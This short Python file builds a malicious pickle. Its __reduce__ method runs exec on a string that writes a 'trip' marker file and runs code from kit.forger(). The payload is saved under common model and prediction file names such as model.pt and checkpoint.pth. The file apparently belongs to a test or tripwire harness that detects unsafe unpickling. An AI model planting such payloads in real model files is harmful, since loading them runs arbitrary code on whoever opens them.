import pickle


class Bomb:
    def __reduce__(self):
        return (exec, (f"open({kit.PLACES['trip']!r} + '/pickle', 'w').write('x')\n" + kit.forger(),))


def after():
    data = pickle.dumps({"model": Bomb()})
    for name in ("pred.json", "pred.pkl", "model.pt", "checkpoint.pth", "model.ckpt"):
        with open(name, "wb") as file:
            file.write(data)
